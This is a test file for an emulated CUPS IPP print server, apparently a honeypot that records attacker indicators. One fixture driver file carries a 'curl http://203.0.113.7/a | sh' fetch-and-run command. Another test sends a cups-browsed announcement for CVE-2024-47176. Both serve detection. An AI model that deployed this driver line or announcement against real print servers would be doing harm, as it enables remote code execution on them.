import { createHash } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { decodeMessage, encodeMessage, GROUP, type IppAttribute, type IppMessage, TAG } from '../../../src/emulators/ipp/codec.ts'
import ipp from '../../../src/emulators/ipp/index.ts'
import { attribute, Given, plainValue } from '../../../src/emulators/ipp/values.ts'
import { type Playing, play } from '../../harness.ts'
import { ask, findsOf } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

async function server(options: Record<string, unknown> = {}): Promise<Playing> {
  playing = await play(ipp, {
    persona: 'plain',
    prompts: 'test/fixtures/prompts',
    hosts: new MemoryHosts(),
    options,
    settings: { limits: { connectionsPerSource: 200 } },
  })
  return playing
}

async function post(p: Playing, body: Buffer, path = '/'): Promise<{ status: number; message: IppMessage | undefined }> {
  const reply = await ask(p, 'POST', path, { headers: { 'Content-Type': 'application/ipp' }, body })
  return { status: reply.status, message: reply.header('content-type') === 'application/ipp' ? decodeMessage(reply.bytes) : undefined }
}

let queue = ''
async function operation(p: Playing, code: number, extra: IppAttribute[] = [], more: Partial<IppMessage> = {}): Promise<IppMessage> {
  if (queue === '') queue = await defaultQueue(p)
  const attributes = [
    attribute('attributes-charset', TAG.charset, 'utf-8'),
    attribute('attributes-natural-language', TAG.language, 'en'),
    attribute('printer-uri', TAG.uri, `ipp://www.test.lan/printers/${queue}`),
    attribute('requesting-user-name', TAG.name, 'eve'),
    ...extra,
  ]
  const message = {
    version: { major: 2, minor: 0 },
    code,
    requestId: 7,
    groups: [{ tag: GROUP.operation, attributes }],
    data: Buffer.alloc(0),
    ...more,
  }
  return (await post(p, encodeMessage(message), `/printers/${queue}`)).message!
}

async function defaultQueue(p: Playing): Promise<string> {
  const attributes = [attribute('attributes-charset', TAG.charset, 'utf-8'), attribute('attributes-natural-language', TAG.language, 'en')]
  const { message } = await post(
    p,
    encodeMessage({
      version: { major: 1, minor: 1 },
      code: 0x4001,
      requestId: 1,
      groups: [{ tag: GROUP.operation, attributes }],
      data: Buffer.alloc(0),
    }),
  )
  return new Given(message!, GROUP.printer).text('printer-name')!
}

const Truth = z.object({
  exchanges: z.record(z.string(), z.object({ path: z.string(), request: z.base64(), status: z.number(), reply: z.base64() })),
})
const truth = Truth.parse(JSON.parse(readFileSync(new URL('./truth.json', import.meta.url), 'utf8'))).exchanges
const recorded = (name: string): IppMessage => decodeMessage(Buffer.from(truth[name]!.reply, 'base64'))

/** A message without what differs between two servers: names, addresses, times, numbers of jobs. */
function comparable({ version, code, requestId, groups }: IppMessage): unknown {
  const varies = /uri|uuid|time|-id$|name|icons|more-info|up-time|subscriber/
  return {
    version,
    code,
    requestId,
    groups: groups.map(({ tag, attributes }) => ({
      tag,
      attributes: attributes.map(({ name, values }) => [name, values[0]?.tag, ...(varies.test(name) ? [] : values.map(plainValue))]),
    })),
  }
}

describe('answers of CUPS 2.4.2, recorded', () => {
  const same = Object.keys(truth).filter((name) => !['gpa', 'getprinters', 'print', 'setdefault', 'delprinter'].includes(name))
  it.each(same)('%s', async (name) => {
    const p = await server()
    queue = await defaultQueue(p)
    const request = decodeMessage(Buffer.from(truth[name]!.request, 'base64'))
    for (const { attributes } of request.groups) {
      for (const { values } of attributes)
        for (const value of values)
          if ('bytes' in value && value.tag === TAG.uri)
            value.bytes = Buffer.from(value.bytes.toString().replace('/printers/Laser', `/printers/${queue}`))
    }
    if (name === 'getsubs') await operation(p, 0x16, [], { groups: decodeMessage(Buffer.from(truth.createsub!.request, 'base64')).groups })
    const { status, message } = await post(p, encodeMessage(request), truth[name]!.path)
    expect([status, comparable(message!)]).toEqual([200, comparable(recorded(name))])
  })

  it('name the same attributes of a printer, of the same syntax, in the same groups', async () => {
    const p = await server()
    const ours = await operation(p, 0x0b, [attribute('requested-attributes', TAG.keyword, 'all', 'media-col-database')])
    const shape = (message: IppMessage): Map<string, number> =>
      new Map(message.groups.find(({ tag }) => tag === GROUP.printer)!.attributes.map(({ name, values }) => [name, values[0]!.tag]))
    const [mine, theirs] = [shape(ours), shape(recorded('gpa'))]
    expect([...theirs].filter(([name, tag]) => mine.get(name) !== tag)).toEqual([])
    // The recorded driver has no media types; PWG 5100.12 wants them.
    expect([...mine.keys()].filter((name) => !theirs.has(name))).toEqual(['media-type-supported'])
  })
})

describe('jobs', () => {
  const PDF = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Page>> endobj\n%%EOF\n')
  const sha256 = createHash('sha256').update(PDF).digest('hex')
  const printed = (message: IppMessage): number => new Given(message, GROUP.job).number('job-id')!

  it('are kept as the client meant them, however they were packed', async () => {
    const p = await server()
    const ways: [string, Buffer][] = [
      ['none', PDF],
      ['gzip', gzipSync(PDF)],
      ['deflate', deflateSync(PDF)],
      ['deflate', deflateRawSync(PDF)],
    ]
    for (const [compression, data] of ways) {
      const reply = await operation(
        p,
        0x02,
        [attribute('job-name', TAG.name, 'report'), attribute('compression', TAG.keyword, compression)],
        { data },
      )
      expect(reply.code).toBe(0)
    }
    expect(p.data('ipp.document').map((document) => [document.sha256, document.format, document.user])).toEqual(
      ways.map(() => [sha256, 'application/pdf', 'eve']),
    )
    expect(p.artifacts.kept.get(sha256)!.equals(PDF)).toBe(true)
    expect((await operation(p, 0x02, [attribute('compression', TAG.keyword, 'gzip')], { data: PDF })).code).toBe(0x0410)
  })

  it('wait, print and are done, with ids that rise', async () => {
    const p = await server()
    const first = printed(await operation(p, 0x02, [], { data: PDF }))
    const second = printed(await operation(p, 0x02, [], { data: PDF }))
    expect(second).toBe(first + 1)
    const jobs = await operation(p, 0x0a)
    expect(jobs.groups.filter(({ tag }) => tag === GROUP.job).map(({ attributes }) => attributes.map(({ name }) => name))).toEqual([
      ['job-uri', 'job-id'],
      ['job-uri', 'job-id'],
    ])
    expect((await operation(p, 0x08, [attribute('job-id', TAG.integer, second)])).code).toBe(0)
    const again = await operation(p, 0x08, [attribute('job-id', TAG.integer, second)])
    expect([again.code, new Given(again, GROUP.operation).text('status-message')]).toEqual([
      0x0404,
      `Job #${second} is already canceled - can't cancel.`,
    ])
  })

  it('take documents one by one, and are held and released', async () => {
    const p = await server()
    const job = printed(await operation(p, 0x05, [attribute('job-name', TAG.name, 'two')]))
    const id = attribute('job-id', TAG.integer, job)
    expect((await operation(p, 0x06, [id], { data: PDF })).code).toBe(0x0400)
    expect((await operation(p, 0x06, [id, attribute('last-document', TAG.boolean, false)], { data: PDF })).code).toBe(0)
    expect((await operation(p, 0x06, [id, attribute('last-document', TAG.boolean, true)], { data: PDF })).code).toBe(0)
    expect((await operation(p, 0x0c, [id])).code).toBe(0)
    expect(new Given(await operation(p, 0x09, [id]), GROUP.job).number('job-state')).toBe(4)
    expect((await operation(p, 0x0d, [id])).code).toBe(0)
    expect(new Given(await operation(p, 0x09, [id]), GROUP.job).number('number-of-documents')).toBe(2)
  })

  it('from an address are not printed: the address is kept and the operation is none of CUPS', async () => {
    const p = await server()
    const reply = await operation(p, 0x03, [attribute('document-uri', TAG.uri, 'http://203.0.113.5/x.pdf')])
    expect([reply.code, p.data('indicator')]).toMatchObject([
      0x0501,
      [{ kind: 'url', value: 'http://203.0.113.5/x.pdf', how: 'print-uri' }],
    ])
  })
})

describe('administration', () => {
  it('keeps the driver that a new queue comes with, and where it would send its jobs', async () => {
    const p = await server()
    const ppd = Buffer.from(
      '*PPD-Adobe: "4.3"\n*FoomaticRIPCommandLine: "curl http://203.0.113.7/a | sh"\n*cupsFilter2 : "application/pdf application/vnd.cups-postscript 0 foomatic-rip"\n',
    )
    const uri = [
      attribute('attributes-charset', TAG.charset, 'utf-8'),
      attribute('attributes-natural-language', TAG.language, 'en'),
      attribute('printer-uri', TAG.uri, 'ipp://localhost/printers/evil'),
    ]
    const groups = [
      { tag: GROUP.operation, attributes: uri },
      {
        tag: GROUP.printer,
        attributes: [
          attribute('device-uri', TAG.uri, 'ipp://203.0.113.7/x'),
          attribute('printer-state', TAG.enum, 3),
          attribute('printer-is-accepting-jobs', TAG.boolean, true),
        ],
      },
    ]
    expect((await operation(p, 0x4003, [], { groups, data: ppd })).code).toBe(0)
    expect(p.data('ipp.queue')).toMatchObject([{ operation: 'add', name: 'evil', deviceUri: 'ipp://203.0.113.7/x' }])
    expect(p.data('indicator').map(({ how, value }) => `${how} ${value}`)).toEqual([
      'ppd http://203.0.113.7/a',
      'device-uri ipp://203.0.113.7/x',
    ])
    expect([...p.artifacts.kept.values()].some((bytes) => bytes.equals(ppd))).toBe(true)
    const printers = await operation(p, 0x4002, [attribute('requested-attributes', TAG.keyword, 'printer-name')])
    expect(printers.groups.filter(({ tag }) => tag === GROUP.printer)).toHaveLength(3)
  })

  it('asks for a password at its forms and writes it down', async () => {
    const p = await server({ login: { policy: 'list', accept: [] } })
    const refused = await ask(p, 'POST', '/admin/', {
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'OP=add-printer',
    })
    expect([refused.status, refused.header('www-authenticate')]).toEqual([401, 'Basic realm="CUPS", Local'])
    await ask(p, 'POST', '/admin/', { headers: { Authorization: `Basic ${Buffer.from('root:letmein').toString('base64')}` }, body: 'OP=x' })
    expect(p.data('login')).toMatchObject([{ method: 'basic', username: 'root', password: 'letmein', accepted: false }])
  })
})

describe('the wire', () => {
  it("has CUPS's header lines in its order", async () => {
    const p = await server()
    const names = (head: string): string[] => head.split('\r\n').map((line) => line.split(':')[0]!)
    const keeping = { headers: { Connection: 'keep-alive' } }
    expect(names((await ask(p, 'GET', '/', keeping)).head)).toEqual([
      'HTTP/1.1 200 OK',
      'Connection',
      'Content-Language',
      'Content-Length',
      'Content-Type',
      'Date',
      'Keep-Alive',
      'Last-Modified',
      'Accept-Encoding',
      'Server',
      'X-Frame-Options',
      'Content-Security-Policy',
    ])
    expect(names((await ask(p, 'GET', '/printers/', keeping)).head)).toEqual([
      'HTTP/1.1 200 OK',
      'Connection',
      'Content-Language',
      'Content-Type',
      'Date',
      'Keep-Alive',
      'Transfer-Encoding',
      'Accept-Encoding',
      'Server',
      'Set-Cookie',
      'X-Frame-Options',
      'Content-Security-Policy',
    ])
    const missing = await ask(p, 'GET', '/nope', keeping)
    expect([missing.status, missing.header('connection'), missing.body]).toEqual([
      404,
      'close',
      expect.stringContaining('<TITLE>Not Found - CUPS v2.4.2</TITLE>'),
    ])
    // test/emulators/ipp/truth.json has the page of a request without Host too.
    expect((await p.exchange('GET / HTTP/1.0\r\n\r\n')).toString()).toMatch(
      /^HTTP\/1\.0 400 Bad Request\r\nContent-Language: en\r\nContent-Length: 346\r\nContent-Type: text\/html; charset=utf-8\r\nDate: [^\r]+\r\nAccept-Encoding: gzip, deflate, identity\r\nServer: CUPS\/2\.4 IPP\/2\.1\r\n/,
    )
  })

  it('refuses what is no IPP as a bad request, and keeps it', async () => {
    const p = await server()
    for (const bytes of ['\x02\x00', '\x02\x00\x00\x0b\x00\x00\x00\x07\x01\x47\x00\x12attr'])
      expect((await post(p, Buffer.from(bytes, 'latin1'))).status).toBe(400)
    expect(p.data('ipp.malformed')).toHaveLength(2)
  })

  it('is found by no recorded probe', async () => {
    const p = await server()
    expect(await findsOf(p)).toEqual(['wp-random-plugin-404'])
    expect([p.data('lure.fault'), p.deadLetters]).toEqual([[], []])
  }, 30_000)
})

describe('cups-browsed', () => {
  it('is told of a printer, answers nothing and calls nobody (CVE-2024-47176)', async () => {
    const p = await server()
    const socket = createSocket('udp4')
    const answers: Buffer[] = []
    socket.on('message', (bytes) => answers.push(bytes))
    socket.send('0 3 http://203.0.113.9:631/printers/x "Office" "Laser" "HP"\n', p.port(1), '127.0.0.1')
    const event = await p.seen('ipp.browse')
    expect(event).toMatchObject({
      data: { type: '0', state: '3', uri: 'http://203.0.113.9:631/printers/x', location: 'Office', info: 'Laser', makeAndModel: 'HP' },
      tags: expect.arrayContaining(['cve:CVE-2024-47176']),
    })
    await p.seen('indicator')
    socket.close()
    expect(answers).toEqual([])
  })
})
